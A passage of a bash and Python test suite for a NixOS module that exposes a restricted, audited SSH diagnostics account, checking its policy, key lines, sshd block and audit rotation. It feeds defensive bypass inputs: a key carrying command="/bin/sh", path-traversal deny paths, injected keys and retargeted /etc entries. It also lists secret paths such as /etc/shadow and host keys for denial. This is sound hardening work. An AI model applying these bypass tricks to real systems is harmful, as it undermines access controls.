    [[ $out == "compiled image: not used: "*"stale"*"; requests parse the policy's files" ]] \
        || fail "$label: a changed policy with the old image: $out"
    out=$(run_activation_snippet "$json" "$WRAPPER" "$dir/policy.toml")
    [[ $out == "0|" && $(image_state) == "compiled image: current: "* ]] || fail "$label: the next activation: [$out] $(image_state)"
    # A compile that fails (the wrapper refuses a group-writable policy): the activation goes on.
    chmod 0464 "$dir/policy.toml"
    out=$(run_activation_snippet "$json" "$WRAPPER" "$dir/policy.toml")
    [[ $out == "0|diag-wrapper: warning: no compiled policy image, requests parse $dir/policy.toml: diag-wrapper: error: "*"writable by group or other"* && $out != *$'\n'* ]] \
        || fail "$label: a failed compile: expected status 0 and one warning line, got [$out]"
    say "$label: root's 0444 copies compiled by the activation snippet (image current; stale after a rebuild until the next activation); a failed compile: ${out#0|}"
}

# replay_policy_build_check LABEL MODULE_JSON ok|ERROR_REGEX: the module's policy check derivation
# (system.checks) run outside Nix: its script, with each store path replaced by the TOML of the
# attribute set it renders and the wrapper by the one under test, as nobody in a directory of its
# own, the way a Nix build user runs it.
replay_policy_build_check() {
    local label=$1 json=$2 expect=$3 work rc=0 out
    work=$(mktemp -d "$TMP/build.XXXXXX")
    chmod 0755 "$work"
    install -m 0755 "$WRAPPER" "$work/diag-wrapper"
    python3 - "$json" "$work" <<'PY' || fail "$label: no policy check in system.checks"
import json, os, sys
sys.path.insert(0, os.environ["TMP"])
from to_toml import to_toml
d, work = json.load(open(sys.argv[1])), sys.argv[2]
checks = {c["name"]: c for c in d["buildChecks"]}
if "diag-wrapper-policy-check" not in checks:
    sys.exit(f"FAIL: system.checks has no policy check: {sorted(checks)}")
c = checks["diag-wrapper-policy-check"]
script = c["script"].replace(c["passthru"]["wrapper"], f"{work}/diag-wrapper")
for rel, f in c["passthru"]["policyFiles"].items():
    path = f"{work}/store-{rel.replace('/', '-')}"
    open(path, "w").write(to_toml(f["value"]))
    os.chmod(path, 0o644)
    script = script.replace(f["storePath"], path)
if "/nix/store/" in script:
    sys.exit(f"FAIL: the policy check script uses a store path this test does not provide:\n{script}")
open(f"{work}/builder.sh", "w").write(script)
PY
    mkdir "$work/build"
    chown nobody: "$work/build"
    out=$(cd "$work/build" && setpriv --reuid="$(id -u nobody)" --regid="$(id -g nobody)" --clear-groups \
        env -i PATH=/usr/bin:/bin out="$work/build/out" bash -e "$work/builder.sh" 2>&1) || rc=$?
    if [[ $expect == ok ]]; then
        [[ $rc -eq 0 && -e $work/build/out ]] || fail "$label: the policy check derivation fails as a build user (exit $rc): $out"
        say "$label: policy check derivation passes as nobody: $(grep -E '^(commands|deny entries):' <<<"$out" | paste -sd';')"
    else
        [[ $rc -ne 0 && ! -e $work/build/out ]] || fail "$label: the policy check derivation accepted a bad policy: $out"
        grep -qE -- "$expect" <<<"$out" || fail "$label: expected /$expect/ in: $out"
        say "$label: the build fails: $out"
    fi
}

# run_activation_snippet MODULE_JSON WRAPPER POLICY: the module's compile snippet run the way
# NixOS's activate script runs it (bash, an ERR trap that fails the activation, umask 0022),
# with the wrapper's store path replaced by WRAPPER and /etc/diag-wrapper/policy.toml by POLICY.
# Prints "STATUS|STDERR", STATUS being what the activation would exit with.
run_activation_snippet() {
    local json=$1 wrapper=$2 policy=$3 err rc=0
    python3 - "$json" "$wrapper" "$policy" >"$TMP/snippet.sh" <<'PY' || fail "no compile snippet in $json"
import json, os, sys
d, wrapper, policy = json.load(open(sys.argv[1])), sys.argv[2], sys.argv[3]
text = d["activationScripts"]["diag-wrapper-compile"]["text"]
text = text.replace(os.environ["WRAPPER_STUB"], wrapper).replace("/etc/diag-wrapper/policy.toml", policy)
if "/nix/store/" in text:
    sys.exit(f"FAIL: the compile snippet uses a store path this test does not provide:\n{text}")
print(text)
PY
    # shellcheck disable=SC2016 # expanded by the inner bash
    err=$(env -i PATH=/usr/bin:/bin bash -c '
_status=0
trap "_status=1 _localstatus=\$?" ERR
umask 0022
_localstatus=0
source "$1"
exit $_status' snippet "$TMP/snippet.sh" 2>&1 >/dev/null) || rc=$?
    printf '%s|%s\n' "$rc" "$err"
}

# activation_snippet MODULE_JSON: the compile snippet with stand-ins for the wrapper: the
# arguments it passes, silence when the compile succeeds, one warning line and a successful
# activation when it fails.
activation_snippet() {
    local json=$1 out
    cat >"$TMP/wrapper-ok" <<EOF
#!/bin/bash
printf '%s\n' "\$*" >"$TMP/wrapper-args"
echo "compiled \$3 (1 files, 2 commands) into \$3.compiled"
EOF
    cat >"$TMP/wrapper-fails" <<'EOF'
#!/bin/bash
echo "diag-wrapper: error: policy: /etc/diag-wrapper/policy.toml: writable by group or other" >&2
echo "second line" >&2
exit 2
EOF
    chmod 0755 "$TMP/wrapper-ok" "$TMP/wrapper-fails"
    out=$(run_activation_snippet "$json" "$TMP/wrapper-ok" /etc/diag-wrapper/policy.toml)
    [[ $out == "0|" ]] || fail "compile snippet, successful compile: expected status 0 and no output, got [$out]"
    [[ $(cat "$TMP/wrapper-args") == "--compile --policy /etc/diag-wrapper/policy.toml" ]] \
        || fail "compile snippet: the wrapper got [$(cat "$TMP/wrapper-args")]"
    out=$(run_activation_snippet "$json" "$TMP/wrapper-fails" /etc/diag-wrapper/policy.toml)
    [[ $out == "0|diag-wrapper: warning: no compiled policy image, requests parse /etc/diag-wrapper/policy.toml: diag-wrapper: error: policy: /etc/diag-wrapper/policy.toml: writable by group or other; second line" ]] \
        || fail "compile snippet, failed compile: expected status 0 and one warning line, got [$out]"
    out=$(run_activation_snippet "$json" "$TMP/no-such-wrapper" /etc/diag-wrapper/policy.toml)
    [[ $out == "0|diag-wrapper: warning: no compiled policy image, requests parse /etc/diag-wrapper/policy.toml: "* && $out != *$'\n'* ]] \
        || fail "compile snippet, wrapper missing: expected status 0 and one warning line, got [$out]"
    say "compile snippet: --compile --policy /etc/diag-wrapper/policy.toml after etc; quiet when it works; a failed compile is one warning line and the activation still succeeds"
}

# ------------------------------------------------------------------------------------------------
check_eval_module() {
    need_lib
    local scenario
    for scenario in web02 minimal; do
        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario "$scenario" \
            >"$TMP/$scenario.json" 2>"$TMP/err" || fail "evaluating the module ($scenario): $(cat "$TMP/err")"
    done
    E2FS_STUB=/nix/store/77777777777777777777777777777777-e2fsprogs \
        UTIL_LINUX_STUB=/nix/store/88888888888888888888888888888888-util-linux \
        COREUTILS_STUB=/nix/store/99999999999999999999999999999999-coreutils \
        PACKAGE_STUB=/nix/store/00000000000000000000000000000000-diag-wrapper-0.1.0 \
        python3 - "$TMP/web02.json" "$TMP/minimal.json" <<'PY'
import json, os, sys, tomllib
web, mini = (json.load(open(p)) for p in sys.argv[1:3])
E = os.environ
W = E["WRAPPER_STUB"]
base = tomllib.load(open(f"{E['SRC']}/policy/default.toml", "rb"))
errors = []
def eq(label, got, want):
    if got != want:
        errors.append(f"{label}:\n    got  {got!r}\n    want {want!r}")

for name, d in (("web02", web), ("minimal", mini)):
    eq(f"{name}: failed assertions", d["failedAssertions"], [])
    eq(f"{name}: user", d["user"], {
        "name": "diag", "isSystemUser": True, "isNormalUser": False, "group": "diag",
        "extraGroups": ["systemd-journal"], "description": "Read-only diagnostics through diag-wrapper",
        "home": "/var/empty", "createHome": False, "hashedPassword": "*", "shell": W,
        "authorizedKeys": d["user"]["authorizedKeys"]})
    eq(f"{name}: groups", d["groups"], ["diag"])
    eq(f"{name}: LogLevel", d["sshdLogLevel"], "VERBOSE")
    eq(f"{name}: systemPackages", d["systemPackages"], [W.rsplit("/bin/", 1)[0]])
    # The block comes first: before the neighbours' Match blocks (orders 0, mkBefore, default,
    # mkAfter) and even before the openssh module's own lines; the global lines stay.
    x = d["sshdExtraConfig"]
    i = x.find(E["EXPECTED_BLOCK"])
    if i < 0:
        errors.append(f"{name}: exact diag block not found in extraConfig:\n{x}")
    elif not (i == 0 and x.count("Match ") == 2 + 2 * 4 and
              i < x.find("HostKey") and i < x.find("ClientAliveInterval 120") < x.find("ClientAliveCountMax 7")):
        errors.append(f"{name}: the diag block is not first among the Match blocks:\n{x}")
    pol = d["policy"]
    eq(f"{name}: policy.version", pol["version"], 1)
    eq(f"{name}: policy commands", sorted(pol["command"]), sorted(base["command"]))
    for cid, c in base["command"].items():
        eq(f"{name}: command {cid}", pol["command"][cid], c)
    eq(f"{name}: policy deny keeps every base entry", [p for p in base["deny"]["paths"] if p not in pol["deny"]["paths"]], [])
    eq(f"{name}: etc files are generated", all(isinstance(v, dict) for v in d["etc"].values()), True)
    # Root-owned read-only copies, not symlinks into the store (adr/0024), every one of them.
    eq(f"{name}: etc files are root-owned 0444 copies", d["etcInstall"],
       {n: {"mode": "0444", "user": "+0", "group": "+0"} for n in d["etc"]})
    eq(f"{name}: activation snippets", sorted(d["activationScripts"]), ["diag-wrapper-compile"])
    a = d["activationScripts"].get("diag-wrapper-compile", {})
    eq(f"{name}: compile snippet runs after etc, not on dry-activate",
       (a.get("deps"), a.get("supportsDryActivation")), (["etc"], False))
    if f"{W} --compile --policy /etc/diag-wrapper/policy.toml " not in a.get("text", ""):
        errors.append(f"{name}: the compile snippet does not compile /etc/diag-wrapper/policy.toml: {a}")
    eq(f"{name}: etc policy.toml is cfg.policy", d["etc"]["diag-wrapper/policy.toml"], pol)
    eq(f"{name}: system.checks", [c["name"] for c in d["buildChecks"]],
       ["diag-wrapper-sshd-check", "diag-wrapper-policy-check"])

# web02: two keys (one with from=), fingerprint -> principal, journald + file, extra deny paths
# and a command in the 50-host drop-in, a host deny entry and timeout in the main policy.
eq("web02: authorized_keys", web["user"]["authorizedKeys"], [
    f'restrict,command="{W}" {E["KEY_CI"]}',
    f'restrict,from="10.0.0.0/8,192.168.1.*",command="{W}" {E["KEY_ONCALL"]}'])
eq("web02: audit", web["policy"]["audit"], {
    "sinks": ["journald", "file"], "file": "/var/log/diag-wrapper/audit.jsonl",
    "chain": "/var/lib/diag-wrapper/chain",
    "principals": {E["FP_CI"]: "ci-agent"}})
eq("web02: deny = base + host entry", web["policy"]["deny"]["paths"], base["deny"]["paths"] + ["/srv/web-02/secrets"])
eq("web02: settings", web["policy"]["settings"], dict(base["settings"], timeout="20s"))
eq("web02: tmpfiles", web["tmpfiles"], [
    "d /var/log/diag-wrapper 0750 root diag - -",
    "f /var/log/diag-wrapper/audit.jsonl 0620 root diag - -",
    "h /var/log/diag-wrapper/audit.jsonl - - - - +a",
    "d /var/lib/diag-wrapper 0750 root diag - -",
    "f /var/lib/diag-wrapper/chain 0660 root diag - -"])
eq("web02: etc files", sorted(web["etc"]), ["diag-wrapper/policy.d/50-host.toml", "diag-wrapper/policy.toml"])
eq("web02: 50-host drop-in", web["etc"]["diag-wrapper/policy.d/50-host.toml"], {
    "version": 1,
    "deny": {"paths": ["/persist/var/lib/matrix-synapse", "/persist/var/lib/mautrix-*",
                       "/persist/var/lib/matrix-authentication-service", "/persist/var/lib/n8n",
                       "/persist/var/lib/zammad", "/persist/etc/ssh/ssh_host_*key"]},
    "command": {"zpool-status": {
        "match": ["zpool", "status"], "description": "ZFS pool health: zpool status [-v] [-x] [POOL]",
        "timeout": "10s",
        "option": [{"names": ["-v"], "type": "flag"}, {"names": ["-x"], "type": "flag"}],
        "positional": [{"type": "regex", "pattern": "[A-Za-z0-9_.:-]{1,255}", "min": 0, "max": 1}]}}})
eq("web02: warnings", web["warnings"], [])

# minimal: one key without fingerprint, the default sinks (file, the record of truth, and
# journald), no drop-in.
eq("minimal: authorized_keys", mini["user"]["authorizedKeys"], [f'restrict,command="{W}" {E["KEY_CI"]}'])
eq("minimal: audit", mini["policy"]["audit"], {"sinks": ["file", "journald"], "file": "/var/log/diag-wrapper/audit.jsonl",
                                              "chain": "/var/lib/diag-wrapper/chain"})
eq("minimal: deny = base", mini["policy"]["deny"]["paths"], base["deny"]["paths"])
eq("minimal: settings = base", mini["policy"]["settings"], base["settings"])
eq("minimal: tmpfiles", mini["tmpfiles"], [
    "d /var/log/diag-wrapper 0750 root diag - -",
    "f /var/log/diag-wrapper/audit.jsonl 0620 root diag - -",
    "h /var/log/diag-wrapper/audit.jsonl - - - - +a",
    "d /var/lib/diag-wrapper 0750 root diag - -",
    "f /var/lib/diag-wrapper/chain 0660 root diag - -"])
eq("minimal: etc files", sorted(mini["etc"]), ["diag-wrapper/policy.toml"])
# The audit file's rotation (adr/0020): the package's hooks around logrotate's rename.
def hook(step):
    return (f"PATH={E['E2FS_STUB']}/bin:{E['UTIL_LINUX_STUB']}/bin:{E['COREUTILS_STUB']}/bin "
            f"{E['PACKAGE_STUB']}/libexec/diag-wrapper/audit-rotate {step} /var/log/diag-wrapper/audit.jsonl")
for name, d in (("web02", web), ("minimal", mini)):
    eq(f"{name}: logrotate", d["logrotate"], {"diag-wrapper": {
        "files": "/var/log/diag-wrapper/audit.jsonl", "frequency": "weekly", "rotate": 52,
        "compress": True, "missingok": True, "notifempty": True, "copytruncate": False,
        "create": "0620 root diag", "prerotate": hook("pre"), "postrotate": hook("post")}})
# kernelLogAccess is off by default: the kernel's dmesg_restrict is left alone.
eq("web02: sysctl", web["sysctl"], {})
eq("minimal: sysctl", mini["sysctl"], {})
if not any("fingerprint" in w for w in mini["warnings"]):
    errors.append(f"minimal: expected the no-fingerprint warning, got {mini['warnings']}")

if errors:
    sys.exit("FAIL:\n  " + "\n  ".join(errors))
print("web02 and minimal: account, authorized_keys, policy (base + host), drop-in, tmpfiles, "
      "LogLevel and the exact sshd block as expected")
PY

    # Rotation follows the options: a count and period of the host's, none without the file sink.
    nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario minimal \
        --arg extra '{ services.diag-wrapper.audit.rotate = { keep = 4; frequency = "daily"; }; }' \
        >"$TMP/rot.json" 2>"$TMP/err" || fail "evaluating audit.rotate: $(cat "$TMP/err")"
    python3 -c 'import json,sys; r=json.load(open(sys.argv[1]))["logrotate"]["diag-wrapper"]; sys.exit(0 if (r["rotate"], r["frequency"]) == (4, "daily") else f"FAIL: audit.rotate not applied: {r}")' "$TMP/rot.json" || exit 1
    for extra in '{ services.diag-wrapper.audit.sinks = [ "journald" ]; }' '{ services.diag-wrapper.audit.rotate.enable = false; }'; do
        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario minimal --arg extra "$extra" \
            >"$TMP/rot.json" 2>"$TMP/err" || fail "evaluating $extra: $(cat "$TMP/err")"
        python3 -c 'import json,sys; r=json.load(open(sys.argv[1]))["logrotate"]; sys.exit(0 if r == {} else f"FAIL: {sys.argv[2]}: logrotate still set: {r}")' "$TMP/rot.json" "$extra" || exit 1
    done
    # kernelLogAccess = true: dmesg_restrict off, and nothing else changes.
    nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" \
        --arg extra '{ services.diag-wrapper.kernelLogAccess = true; }' >"$TMP/klog.json" 2>"$TMP/err" \
        || fail "evaluating the module with kernelLogAccess: $(cat "$TMP/err")"
    python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
got = (d["sysctl"], d["failedAssertions"])
if got != ({"kernel.dmesg_restrict": 0}, []):
    sys.exit(f"FAIL: kernelLogAccess: sysctl and failed assertions {got}")
' "$TMP/klog.json" || exit 1

    activation_snippet "$TMP/minimal.json"

    # Impossible combinations: each must fail with a clear assertion message (or a type error).
    local n=0
    expect_assertion() { # EXPECTED-SUBSTRING NIX-MODULE-EXPR
        local want=$1 expr=$2 out rc=0
        out=$(nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --arg extra "$expr" 2>&1) || rc=$?
        if [[ $rc -eq 0 ]]; then
            # the evaluation on stdin: with the whole policy in it, it is longer than one argument may be
            python3 -c '
import json, sys
msgs = json.load(sys.stdin)["failedAssertions"]
if not any(sys.argv[1] in m for m in msgs):
    sys.exit(f"FAIL: {sys.argv[2]}\n  expected an assertion containing {sys.argv[1]!r}, got {msgs}")
' "$want" "$expr" <<<"$out" || exit 1
        else
            grep -qF -- "$want" <<<"$out" || fail "$expr: evaluation failed without '$want': $out"
        fi
        n=$((n + 1))
    }
    expect_assertion "must not be root" '{ services.diag-wrapper.user = "root"; }'
    expect_assertion "must not be in wheel" '{ users.users.diag.extraGroups = [ "wheel" ]; }'
    expect_assertion "needs services.openssh.enable" '{ lib, ... }: { services.openssh.enable = lib.mkForce false; }'
    expect_assertion "shell must be" '{ lib, ... }: { users.users.diag.shell = lib.mkForce "/bin/sh"; }'
    expect_assertion "drops entries of the shipped policy" '{ lib, ... }: { services.diag-wrapper.policy.deny.paths = lib.mkForce [ "/etc/shadow*" ]; }'
    expect_assertion "defined twice" '{ services.diag-wrapper.extraCommands.cat = { match = [ "cat" ]; description = "again"; }; }'
    expect_assertion "must match [a-z0-9]" '{ services.diag-wrapper.extraCommands.Bad_ID = { match = [ "x" ]; description = "x"; }; }'
    expect_assertion "bare public key" '{ services.diag-wrapper.authorizedKeys = [ { key = "command=\"/bin/sh\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 x"; principal = "x"; } ]; }'
    expect_assertion "appears twice" "{ services.diag-wrapper.authorizedKeys = [ { key = \"$KEY_ONCALL\"; principal = \"again\"; fingerprint = \"$FP_CI\"; } ]; }"
    expect_assertion "SHA256" '{ services.diag-wrapper.authorizedKeys = [ { key = "ssh-ed25519 AAAA x"; principal = "x"; fingerprint = "MD5:aa:bb"; } ]; }'
    expect_assertion "directory of its own" '{ services.diag-wrapper.audit.file = "/var/log/audit.jsonl"; }'
    expect_assertion "lists a sink twice" '{ lib, ... }: { services.diag-wrapper.audit.sinks = lib.mkForce [ "journald" "journald" ]; }'
    expect_assertion "policy.audit is set directly" '{ services.diag-wrapper.policy.audit.sinks = [ "syslog" ]; }'
    expect_assertion "may contain only version, deny and command" '{ services.diag-wrapper.dropIns.extra.settings.timeout = "1s"; }'
    expect_assertion "settings.include must be [ \"/etc/diag-wrapper/policy.d\" ] (it is [])" '{ lib, ... }: { services.diag-wrapper.policy.settings.include = lib.mkForce [ ]; }'
    expect_assertion "without . or .. components" '{ services.diag-wrapper.extraDenyPaths = [ "/srv/../etc/shadow" ]; }'
    expect_assertion "without . or .. components" '{ services.diag-wrapper.extraDenyPaths = [ "relative/path" ]; }'
    expect_assertion "ASCII only" "{ services.diag-wrapper.extraCommands.cafe = { match = [ \"cafe\" ]; description = \"caf"$'\xc3\xa9'"\"; }; }"
    expect_assertion "names must match" '{ services.diag-wrapper.dropIns.".hidden" = { }; }'
    expect_assertion "does not have: nope" '{ services.diag-wrapper.disabledCommands = [ "find" "nope" ]; }'
    # Ways around the module's key lines, sshd's user filters, and the rendered policy files.
    expect_assertion "has keys the module did not write (ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop)" '{ users.users.diag.openssh.authorizedKeys.keys = [ "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop" ]; }'
    expect_assertion "has keys the module did not write (/etc/ssh/diag-extra.pub)" '{ users.users.diag.openssh.authorizedKeys.keyFiles = [ "/etc/ssh/diag-extra.pub" ]; }'
    expect_assertion "AllowUsers (alice bob@10.0.0.1) does not list diag" '{ services.openssh.settings.AllowUsers = [ "alice" "bob@10.0.0.1" ]; }'
    expect_assertion "AllowGroups (wheel users) lists none of its groups (diag systemd-journal)" '{ services.openssh.settings.AllowGroups = [ "wheel" "users" ]; }'
    expect_assertion "DenyUsers (root d*) matches diag" '{ services.openssh.settings.DenyUsers = [ "root" "d*" ]; }'
    expect_assertion "DenyGroups (systemd-journal) matches its group systemd-journal" '{ services.openssh.settings.DenyGroups = [ "systemd-journal" ]; }'
    expect_assertion "DenyUsers (root diag@*) matches diag" '{ services.openssh.settings.DenyUsers = [ "root" "diag@*" ]; }'
    expect_assertion "DenyUsers (d?ag) matches diag" '{ services.openssh.extraConfig = "DenyUsers d?ag\n"; }'
    expect_assertion "AllowUsers (alice bob) does not list diag" '{ lib, ... }: { services.openssh.extraConfig = lib.mkAfter "Match Address 10.0.0.0/8\n  AllowUsers diag\nMatch all\nAllowUsers alice\nAllowUsers bob\n"; }'
    expect_assertion "AllowGroups (wheel) lists none of its groups" '{ services.openssh.extraConfig = "AllowGroups=wheel\n"; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".source = lib.mkForce "/etc/my-policy.toml"; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".text = lib.mkForce "version = 1\n"; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.d/50-host.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.d/50-host.toml".text = lib.mkForce "version = 1\n"; }'
    # The policy installed as something other than root's read-only copy: a symlink again (no
    # image), or a file another account may write or own.
    local replaced='environment.etc."diag-wrapper/policy.toml" is replaced'
    expect_assertion "$replaced" '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".mode = lib.mkForce "symlink"; }'
    expect_assertion "$replaced" '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".mode = lib.mkForce "0644"; }'
    expect_assertion "$replaced" '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".user = lib.mkForce "diag"; }'
    expect_assertion "$replaced" '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".group = lib.mkForce "+1000"; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.d/50-host.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.d/50-host.toml".mode = lib.mkForce "0666"; }'
    # What the wrapper would load but the build-time policy check would not read.
    expect_assertion 'environment.etc."diag-wrapper/policy.d/60-extra.toml" is not written by the module' '{ environment.etc."diag-wrapper/policy.d/60-extra.toml".text = "version = 1\n[command.cat]\nmatch = [\"cat\"]\ndescription = \"again\"\n"; }'
    expect_assertion 'environment.etc."diag-wrapper/extra.toml" is not written by the module' '{ environment.etc."diag-wrapper/extra.toml".source = "/srv/extra.toml"; }'
    # NixOS installs an entry at its target, not at its name: /etc/TARGET, where the kernel resolves
    # extra slashes, "." and "..". A glob source links each match into the target directory.
    local foreign=' is not written by the module'
    expect_assertion 'environment.etc."innocent" (target "diag-wrapper/policy.d/x.toml")'"$foreign" '{ environment.etc.innocent = { target = "diag-wrapper/policy.d/x.toml"; text = "version = 1\n"; }; }'
    expect_assertion 'environment.etc."foo" (target "diag-wrapper/policy.toml")'"$foreign" '{ environment.etc.foo = { target = "diag-wrapper/policy.toml"; source = "/srv/policy.toml"; }; }'
    expect_assertion 'environment.etc."dup" (target "diag-wrapper/policy.toml")'"$foreign" '{ config, ... }: { environment.etc.dup = { target = "diag-wrapper/policy.toml"; inherit (config.environment.etc."diag-wrapper/policy.toml") source; mode = "0666"; }; }'
    expect_assertion 'environment.etc."a" (target "/diag-wrapper//policy.d/./y.toml")'"$foreign" '{ environment.etc.a = { target = "/diag-wrapper//policy.d/./y.toml"; source = "/srv/y.toml"; }; }'
    expect_assertion 'environment.etc."b" (target "../etc/diag-wrapper/policy.d/z.toml")'"$foreign" '{ environment.etc.b = { target = "../etc/diag-wrapper/policy.d/z.toml"; source = "/srv/z.toml"; }; }'
    expect_assertion 'environment.etc."c" (target "x/../diag-wrapper")'"$foreign" '{ environment.etc.c = { target = "x/../diag-wrapper"; source = "/srv/policy-dir"; }; }'
    expect_assertion 'environment.etc."tree" (target ".")'"$foreign" '{ environment.etc.tree = { target = "."; source = "/srv/etc-tree/*"; }; }'
    # The module's own files moved away or switched off: the path is free for another file, and a
    # drop-in's deny entries (the host's secrets in 50-host) are gone.
    local moved=' is not installed at its path'
    expect_assertion 'environment.etc."diag-wrapper/policy.toml"'"$moved" '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".target = lib.mkForce "elsewhere/policy.toml"; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.d/50-host.toml"'"$moved" '{ environment.etc."diag-wrapper/policy.d/50-host.toml".target = "diag-wrapper/policy.d/50-host.toml.off"; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.d/50-host.toml"'"$moved" '{ environment.etc."diag-wrapper/policy.d/50-host.toml".enable = false; }'
    expect_assertion 'environment.etc."diag-wrapper/policy.toml"'"$moved" '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".enable = lib.mkForce false; }'
    expect_assertion '(it is ["/etc/diag-wrapper/policy.d","/var/lib/diag-wrapper/policy.d"])' '{ lib, ... }: { services.diag-wrapper.policy.settings.include = lib.mkForce [ "/etc/diag-wrapper/policy.d" "/var/lib/diag-wrapper/policy.d" ]; }'
    # The account's key file, replaced or loosened behind users.users.
    local keys_etc='environment.etc."ssh/authorized_keys.d/diag" is not the file the openssh module generates'
    expect_assertion "$keys_etc" '{ lib, ... }: { environment.etc."ssh/authorized_keys.d/diag".text = lib.mkForce "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop\n"; }'
    expect_assertion "$keys_etc" '{ lib, ... }: { environment.etc."ssh/authorized_keys.d/diag".source = lib.mkForce "/etc/ssh/my-keys"; }'
    expect_assertion "$keys_etc" '{ lib, ... }: { environment.etc."ssh/authorized_keys.d/diag".mode = lib.mkForce "0644"; }'
    expect_assertion "$keys_etc" '{ environment.etc."ssh/authorized_keys.d/diag".user = "diag"; }'
    expect_assertion "$keys_etc" '{ lib, ... }: { services.diag-wrapper.authorizedKeys = lib.mkForce [ ]; environment.etc."ssh/authorized_keys.d/diag".text = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop\n"; }'
    # ... or by another entry installed at its path: new keys, or the same file made writable.
    keys_etc='or replaced by environment.etc."k" installed at its path'
    expect_assertion "$keys_etc" '{ environment.etc.k = { target = "ssh/authorized_keys.d/diag"; text = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop\n"; }; }'
    expect_assertion "$keys_etc" '{ lib, ... }: { services.diag-wrapper.authorizedKeys = lib.mkForce [ ]; environment.etc.k = { target = "/ssh//authorized_keys.d/diag"; text = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop\n"; }; }'
    expect_assertion "$keys_etc" '{ config, ... }: { environment.etc.k = { target = "ssh/authorized_keys.d/diag"; inherit (config.environment.etc."ssh/authorized_keys.d/diag") source; mode = "0666"; }; }'
    # sshd_config lines read before the diag block, or from files the build never sees.
    expect_assertion "services.openssh.settings sets Include: the openssh module writes settings before extraConfig" '{ services.openssh.settings.Include = "/etc/ssh/sshd_config.d/*.conf"; }'
    expect_assertion "services.openssh.settings sets match:" '{ services.openssh.settings.match = "Address 192.0.2.0/24"; }'
    expect_assertion "extraConfig has Include /etc/ssh/sshd_config.d/*.conf: the included files are not part of the build" '{ services.openssh.extraConfig = "  include /etc/ssh/sshd_config.d/*.conf\n"; }'
    expect_assertion "extraConfig has Match LocalPort 2222; Match all before the diag Match block" '{ lib, ... }: { services.openssh.extraConfig = lib.mkOrder (-2000) "Match LocalPort 2222\n  PermitTTY yes\nMatch all\n"; }'
    expect_assertion "extraConfig has Match Address 192.0.2.0/24 before the diag Match block" '{ lib, ... }: { services.openssh.extraConfig = lib.mkOrder (-1001) "\"Match\"=Address 192.0.2.0/24\n  PermitTTY yes\n"; }'
    expect_assertion "the diag Match block is missing" '{ lib, ... }: { services.openssh.extraConfig = lib.mkForce "UsePAM yes\n"; }'
    say "$n impossible combinations refused with the expected message"

    # ... and what they must let through: filters that admit the account, keys the module wrote.
    local ok
    for ok in '{ services.openssh.settings = { AllowUsers = [ "alice" "d?ag@10.0.0.0/8" ]; AllowGroups = [ "systemd-*" ]; DenyUsers = [ "diag@203.0.113.9" "root" ]; DenyGroups = [ "!diag" "wheel" ]; }; }' \
              '{ services.openssh.settings.AllowUsers = [ "*" ]; }' \
              '{ services.openssh.settings.AllowUsers = [ "diag@*" ]; }' \
              '{ services.openssh.settings.AllowUsers = [ "alice" ]; services.openssh.extraConfig = "AllowUsers diag\n"; }' \
              '{ services.openssh.extraConfig = "Match Address 203.0.113.0/24\n  DenyUsers diag\nMatch all\n"; }' \
              '{ environment.etc."diag-wrapper/policy.toml".target = "/diag-wrapper/./policy.toml"; }' \
              '{ environment.etc."diag-wrapper/legacy.toml" = { target = "legacy/diag.toml"; text = "x\n"; }; environment.etc.diag-wrapper-notes.text = "x\n"; }' \
              '{ environment.etc.off = { target = "diag-wrapper/policy.d/x.toml"; text = "version = 1\n"; enable = false; }; }'; do
        out=$(nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --arg extra "$ok" 2>&1) \
            || fail "evaluating $ok: $out"
        python3 -c 'import json, sys; m = json.load(sys.stdin)["failedAssertions"]; sys.exit(f"FAIL: {sys.argv[1]}: {m}" if m else 0)' "$ok" <<<"$out" || exit 1
    done
    say "AllowUsers/AllowGroups/DenyUsers/DenyGroups that admit the account pass; so do etc entries installed outside /etc/diag-wrapper"

    # sops-nix: the age key file is denied where it is set (here under /persist).
    nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr scenario minimal --arg extra \
        '{ lib, ... }: { options.sops.age.keyFile = lib.mkOption { type = lib.types.nullOr lib.types.path; default = null; }; config.sops.age.keyFile = "/persist/var/lib/sops-nix/key.txt"; }' \
        >"$TMP/sops.json" || fail "evaluating the module with sops.age.keyFile"
    python3 - "$TMP/sops.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
drop = d["etc"].get("diag-wrapper/policy.d/50-host.toml", {})
if d["failedAssertions"] or drop.get("deny", {}).get("paths") != ["/persist/var/lib/sops-nix/key.txt"]:
